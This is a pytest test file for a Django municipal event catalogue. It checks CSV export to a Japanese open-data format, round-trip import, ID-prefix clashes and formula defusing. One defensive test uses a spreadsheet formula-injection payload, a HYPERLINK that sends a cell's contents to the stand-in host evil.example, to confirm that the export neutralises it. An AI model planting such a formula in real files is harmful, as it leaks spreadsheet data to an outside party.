"""Exporting the published catalogue as the 「イベント一覧」 CSV, and importing it back."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse

from manabiya.catalog import exporting, importing
from manabiya.catalog.eventcsv import COLUMNS
from manabiya.catalog.models import LearningOpportunity, Session, Venue
from manabiya.catalog.services import SessionSpec
from manabiya.core.models import Municipality, Organization

from ..conftest import local
from .test_eventcsv import event_csv, row

pytestmark = pytest.mark.django_db


def read_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.fixture
def catalogue(koganei, kominkan, other_provider, provider_member, other_member, venue, make_opportunity):
    """Published opportunities of every shape the format can carry, a draft, and a file import."""
    venue.latitude, venue.longitude = Decimal("35.699"), Decimal("139.503")
    venue.address_detail, venue.access, venue.parking = "2階 学習室", "JR武蔵小金井駅 徒歩5分", "なし"
    venue.save()
    hall = Venue.objects.create(municipality=koganei, name="小金井市文化財センター", address="東京都小金井市緑町3-6-4")
    return {
        "one": make_opportunity(
            kominkan,
            provider_member,
            title="スマートフォン活用講座",
            status="published",
            sessions=[
                SessionSpec(starts_at=local(2027, 2, 3, 10), ends_at=local(2027, 2, 3, 12), note="持ち物: スマホ")
            ],
            title_kana="スマートフォンカツヨウコウザ",
            title_en="Using your smartphone",
            description="基本操作から。\n\n質問歓迎",
            fee=500,
            fee_note="テキスト代込み",
            capacity=20,
            contact_name="公民館本館",
            contact_phone="042-383-1234 内線12",
            application_closes_at=local(2027, 1, 25, 17),
            application_note="窓口または電話で",
            application_method="first_come",
            url="https://kominkan.example.jp/smartphone",
        ),
        "daily": make_opportunity(
            other_provider,
            other_member,
            title="夏休み子ども劇場ワークショップ",
            status="published",
            sessions=[
                SessionSpec(starts_at=local(2027, 7, d, 13), ends_at=local(2027, 7, d, 15)) for d in (26, 27, 28)
            ],
        ),
        "all_day": make_opportunity(
            kominkan,
            provider_member,
            title="郷土資料展",
            status="published",
            venue=hall,
            sessions=[SessionSpec(starts_at=local(2027, 10, 1, 0), ends_at=local(2027, 11, 1, 0))],
        ),
        "no_end": make_opportunity(
            kominkan,
            provider_member,
            title="朝の体操",
            status="published",
            sessions=[SessionSpec(starts_at=local(2027, 4, 1, 7))],
        ),
        "draft": make_opportunity(kominkan, provider_member, title="下書きの講座"),
        "cancelled": make_opportunity(kominkan, provider_member, title="中止になった講座", status="cancelled"),
    }


def snapshot(municipality: Municipality) -> dict[str, dict]:
    """What an export carries of each published opportunity, keyed by title."""
    result = {}
    for o in LearningOpportunity.objects.filter(municipality=municipality, status="published"):
        v = o.venue
        result[o.title] = {
            "title_kana": o.title_kana,
            "title_en": o.title_en,
            "description": o.description,
            "fee": o.fee,
            "fee_note": o.fee_note,
            "capacity": o.capacity,
            "contact": (o.contact_name, o.contact_phone),
            "application": (o.application_closes_at, o.application_note),
            "url": o.url,
            "provider": o.provider.name,
            "venue": (v.name, v.address, v.address_detail, v.latitude, v.longitude, v.access, v.parking) if v else None,
            "sessions": [(s.starts_at, s.ends_at, s.note) for s in o.sessions.order_by("starts_at")],
            "window": (o.first_starts_at, o.last_ends_at),
        }
    return result


def test_export_lists_published_opportunities_only(koganei, catalogue, django_assert_max_num_queries):
    with django_assert_max_num_queries(3):
        data = exporting.events_csv(municipality=koganei)
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8
    rows = read_rows(data)
    assert list(rows[0]) == list(COLUMNS)
    titles = {r["イベント名"] for r in rows}
    assert titles == {"スマートフォン活用講座", "夏休み子ども劇場ワークショップ", "郷土資料展", "朝の体操"}
    one = next(r for r in rows if r["イベント名"] == "スマートフォン活用講座")
    assert one["都道府県コード又は市区町村コード"] == "132101"
    assert (one["都道府県名"], one["市区町村名"]) == ("東京都", "小金井市")
    assert one["NO"] == f"M{catalogue['one'].pk}"  # made in Manabiya: its id, marked as Manabiya's
    assert (one["開始日"], one["開始時間"], one["終了日"], one["終了時間"]) == (
        "2027-02-03",
        "10:00",
        "2027-02-03",
        "12:00",
    )
    assert (one["料金(基本)"], one["定員"], one["主催者"]) == ("500", "20", "小金井市公民館本館")
    assert (one["連絡先電話番号"], one["連絡先内線番号"]) == ("042-383-1234", "12")
    assert (one["緯度"], one["経度"], one["方書"]) == ("35.699", "139.503", "2階 学習室")
    assert (one["参加申込終了日"], one["参加申込終了時間"]) == ("2027-01-25", "17:00")
    daily = next(r for r in rows if r["イベント名"] == "夏休み子ども劇場ワークショップ")
    assert (daily["開始日"], daily["開始時間"], daily["終了日"], daily["終了時間"]) == (
        "2027-07-26",
        "13:00",
        "2027-07-28",
        "15:00",
    )
    all_day = next(r for r in rows if r["イベント名"] == "郷土資料展")
    assert (all_day["開始日"], all_day["開始時間"], all_day["終了日"], all_day["終了時間"]) == (
        "2027-10-01",
        "",
        "2027-10-31",
        "",
    )


def test_export_then_import_into_an_installation_without_the_municipality(koganei, catalogue):
    """Exported, deleted, imported again: the same opportunities, sessions, venues and providers,
    and the municipality itself rebuilt from the file."""
    before = snapshot(koganei)
    assert len(before) == 4
    data = exporting.events_csv(municipality=koganei)

    Session.objects.all().delete()
    LearningOpportunity.objects.all().delete()
    Venue.objects.all().delete()
    Organization.objects.all().delete()
    koganei.delete()

    result = importing.events_import(actor=None, data=data, municipality_code="132101")
    assert result.municipality_created and len(result.created) == 4
    municipality = Municipality.objects.get(code="132101")
    assert (municipality.name, municipality.prefecture) == ("小金井市", "東京都")
    assert snapshot(municipality) == before
    # And exporting again gives the same file, row for row, but for the new ids in NO.
    again = read_rows(exporting.events_csv(municipality=municipality))
    first = read_rows(data)
    assert [{**r, "NO": ""} for r in again] == [{**r, "NO": ""} for r in first]


def test_imported_rows_keep_their_no_and_reimporting_the_export_updates(koganei, coordinator):
    rows = [row(NO="A-17"), row(NO="", イベント名="番号のない行", 開始日="2027-03-01", 終了日="")]
    importing.events_import(actor=coordinator, data=event_csv(rows), municipality_code="132101")
    exported = exporting.events_csv(municipality=koganei)
    assert sorted(r["NO"] for r in read_rows(exported)) == ["", "A-17"]
    result = importing.events_import(actor=coordinator, data=exported, municipality_code="132101")
    assert (len(result.created), len(result.updated)) == (0, 2)


def test_export_view_is_public_open_data(client, koganei, catalogue):
    response = client.get(reverse("catalog:export_csv"), {"municipality": "132101"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="events-132101.csv"' in response["Content-Disposition"]
    assert len(read_rows(response.content)) == 4
    assert client.get(reverse("catalog:export_csv"), {"municipality": "13210"}).status_code == 200  # 5 digits
    assert client.get(reverse("catalog:export_csv"), {"municipality": "999999"}).status_code == 404
    assert client.get(reverse("catalog:export_csv")).status_code == 404


def test_export_command_writes_a_file(koganei, catalogue, tmp_path):
    target = tmp_path / "out.csv"
    call_command("export_events", municipality="132101", output=str(target))
    assert target.read_bytes() == exporting.events_csv(municipality=koganei)
    out = io.StringIO()
    call_command("export_events", municipality="132101", stdout=out)
    assert out.getvalue().lstrip("\ufeff").startswith("都道府県コード又は市区町村コード,NO,")


def test_native_numbers_that_clash_with_an_imported_no_get_another_prefix(koganei, coordinator, catalogue):
    """An opportunity imported before the city made its own had NO "M<id>" in its file: the city's
    opportunity with that id is written "MM<id>", and each row of the export imports back onto its own."""
    pk = catalogue["one"].pk
    importing.events_import(
        actor=coordinator,
        data=event_csv([row(NO="Z-1"), row(NO=str(pk), イベント名="番号だけの行")]),
        municipality_code="132101",
    )
    LearningOpportunity.objects.filter(source_key="no:Z-1").update(source_key=f"no:M{pk}")  # imported earlier
    exported = exporting.events_csv(municipality=koganei)
    numbers = [r["NO"] for r in read_rows(exported)]
    assert numbers.count(f"M{pk}") == 1 and f"MM{pk}" in numbers and str(pk) in numbers
    result = importing.events_import(actor=coordinator, data=exported, municipality_code="132101")
    assert result.created == [] and sorted(result.unchanged) == sorted(result.updated)
    assert len(result.updated) == len(numbers)


def test_export_defuses_formulas_and_importing_it_gives_the_text_back(
    client, koganei, kominkan, provider_member, make_opportunity
):
    """A provider's title that a spreadsheet would run as a formula is quoted in the public export,
    and importing that export gives back the title as it was written."""
    title = '=HYPERLINK("http://evil.example/?q="&A1,"詳細はこちら")'
    opportunity = make_opportunity(
        kominkan, provider_member, title=title, status="published", contact_phone="-", fee_note="+税"
    )
    response = client.get(reverse("catalog:export_csv"), {"municipality": "132101"})
    (written,) = read_rows(response.content)
    assert written["イベント名"] == "'" + title
    assert (written["連絡先電話番号"], written["料金(詳細)"]) == ("'-", "'+税")
    assert written["NO"] == f"M{opportunity.pk}"  # not a formula: as it is

    LearningOpportunity.objects.all().delete()
    importing.events_import(actor=None, data=response.content, municipality_code="132101")
    imported = LearningOpportunity.objects.get()
    assert (imported.title, imported.contact_phone, imported.fee_note) == (title, "-", "+税")
